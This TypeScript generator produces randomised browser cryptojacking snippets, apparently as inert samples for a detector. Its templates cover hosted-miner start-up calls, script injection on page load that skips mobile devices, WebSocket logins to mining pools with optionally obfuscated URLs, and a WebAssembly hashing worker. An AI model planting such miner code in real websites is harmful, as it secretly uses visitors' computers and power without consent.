import { concealed } from './conceal.ts';
import type { Random } from './random.ts';
import { host, identifiers, key, quote, url } from './words.ts';

/** An inert browser miner: a hosted one's start-up call, or one that brings its own workers, pool and hashing. */
export function miner(r: Random): string {
  const [m, w, s, job, n] = identifiers(r, 5) as [string, string, string, string, string];
  const openness = r.pick([1, 0.7, 0.2]);
  const throttle = r.pick([0, 0.1, 0.3, 0.5, 0.8]);
  const vendor = r.pick(['CoinHive', 'Client', 'deepMiner', 'CoinImp', 'CryptoLoot', 'CRLT', 'WMP', 'Miner', 'ProjectPoi', 'monerominer']);
  const pool = concealed(r, `wss://${host(r)}:${r.pick([443, 8892, 3333])}/${r.pick(['proxy', '', 'ws'])}`, openness);
  switch (r.int(0, 6)) {
    case 0:
      return `var ${m}=new ${vendor}.${r.pick(['Anonymous', 'User', 'Token'])}(${quote(key(r))},{throttle:${throttle}${r.chance(0.4) ? `,threads:${r.int(1, 8)}` : ''}});${r.chance(0.4) ? `if(!${m}.isMobile()&&!${m}.didOptOut(14400))` : ''}${m}.start(${r.chance(0.3) ? `${vendor}.FORCE_EXCLUSIVE_TAB` : ''});`;
    case 1:
      return `var ${s}=document.createElement('script');${s}.src=${concealed(r, url(r), openness)};${s}.onload=function(){var ${m}=new ${vendor}.Anonymous(${quote(key(r))},{throttle:${throttle}});${m}.start();${r.chance(0.5) ? `setInterval(function(){var h=${m}.getHashesPerSecond();if(h<1)${m}.start()},5000);` : ''}};document.head.appendChild(${s});`;
    case 2:
      return `(function(){var ${w}=[],${n}=navigator.hardwareConcurrency||4;var ${s}=new WebSocket(${pool});${s}.onopen=function(){${s}.send(JSON.stringify({type:'auth',params:{site_key:${quote(key(r))},type:'anonymous',user:null,goal:0}}))};${s}.onmessage=function(e){var ${job}=JSON.parse(e.data);if(${job}.type==='job'){for(var i=0;i<${n};i++){if(!${w}[i]){${w}[i]=new Worker(URL.createObjectURL(new Blob([document.getElementById('w').textContent])));${w}[i].onmessage=function(m){${s}.send(JSON.stringify({type:'submit',params:{job_id:m.data.job_id,nonce:m.data.nonce,result:m.data.result}}))}}${w}[i].postMessage({job:${job}.params,throttle:${throttle}})}}}})();`;
    case 3:
      return `var ${m};WebAssembly.instantiate(Uint8Array.from(atob(${quote(key(r, r.int(200, 900)))}),function(c){return c.charCodeAt(0)}),{env:{memory:new WebAssembly.Memory({initial:256})}}).then(function(x){${m}=x.instance.exports});self.onmessage=function(e){var ${job}=e.data,${n}=${job}.nonce|0;for(;;){var h=${m}.${r.pick(['_cryptonight_hash', 'cn_hash', '_hash_cn', '_akki_hash'])}(${job}.blob,${n}++);if(h<${job}.target){postMessage({job_id:${job}.job_id,nonce:${n},result:h});break}}};`;
    case 4:
      return `importScripts(${concealed(r, url(r), openness)});var ${s}=new WebSocket(${pool});${s}.onopen=function(){${s}.send(JSON.stringify({id:1,method:'login',params:{login:${quote(key(r, 95))},pass:'x',agent:'web/1.0'}}))};${s}.onmessage=function(e){var ${job}=JSON.parse(e.data);var ${n}=hash(${job}.params.blob,${job}.params.target);${s}.send(JSON.stringify({id:2,method:'submit',params:{id:${job}.id,job_id:${job}.params.job_id,nonce:${n}.nonce,result:${n}.hash}}))};`;
    case 5:
      return `${r.pick(['startMining', 'start_mining', 'PowerMine.start', 'EverythingIsLife', 'minero.run'])}(${concealed(r, `pool.${host(r)}`, openness)},${quote(key(r, 95))},'x',${r.int(10, 100)});${r.pick([`throttleMiner=${r.int(10, 90)};`, '', 'reconnector=1;'])}`;
    default:
      return `window.addEventListener('load',function(){if(navigator.hardwareConcurrency>${r.int(1, 3)}&&!/Mobi/.test(navigator.userAgent)){var ${s}=document.createElement('script');${s}.async=1;${s}.src=${concealed(r, url(r), openness)};${s}.setAttribute('data-key',${quote(key(r))});${s}.onload=function(){window.${m}=${vendor}.Anonymous(${quote(key(r))}).setThrottle(${throttle});window.${m}.start()};document.body.appendChild(${s})}});`;
  }
}
